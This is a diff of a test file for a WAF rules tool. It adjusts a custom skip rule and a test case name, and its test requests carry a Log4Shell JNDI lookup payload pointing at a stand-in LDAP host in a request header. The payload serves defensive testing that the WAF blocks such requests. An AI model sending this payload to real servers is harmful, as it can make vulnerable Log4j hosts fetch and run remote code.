@@ -2,7 +2,7 @@
  * `zonewall test` over WAF custom rules: offline with the engine's own custom rules evaluator, and
  * against the live zone (embedded engine) after apply, with the same answers; cases name rules
  * `custom_rules.<key>`; a skip of the remaining rules lets the request on (`action: skip`), a skip of
- * the managed phase keeps the managed rulesets quiet; a typo in a name gets a suggestion; a rule
+ * the managed phase and of `waf` keeps both WAFs quiet; a typo in a name gets a suggestion; a rule
  * changed through the API outside zonewall shows as a failing case naming the live rule.
  */
 import { mkdtempSync, rmSync } from 'node:fs';
@@ -18,14 +18,13 @@ import { casesOf, desiredOf } from './fixtures.js';
 
 const manifest = `zone: custom.example.com
 plan: enterprise
-waf_migration: pending
 managed_rules:
   - ruleset: managed
 custom_rules:
   trusted-monitor:
     action: skip
     expression: http.user_agent eq "monitor/1.0"
-    action_parameters: { phases: [http_request_firewall_managed] }
+    action_parameters: { phases: [http_request_firewall_managed], products: [waf] }
   audit-api:
     action: log
     expression: starts_with(http.request.uri.path, "/api/")
@@ -52,7 +51,7 @@ const cases = casesOf(`- name: admin is blocked by the custom rule
 - name: log4j is blocked by the managed ruleset
   request: { ip: 203.0.113.9, headers: { User-Agent: Mozilla/5.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
   expect: { matched: managed_rules.managed }
-- name: the monitor skips the managed rules
+- name: the monitor skips the managed rules and the previous WAF
   request: { ip: 203.0.113.9, headers: { User-Agent: monitor/1.0, X-Api-Version: "\${jndi:ldap://203.0.113.1/a}" } }
   expect: { allowed: true, matched: [custom_rules.trusted-monitor] }
 `).cases;
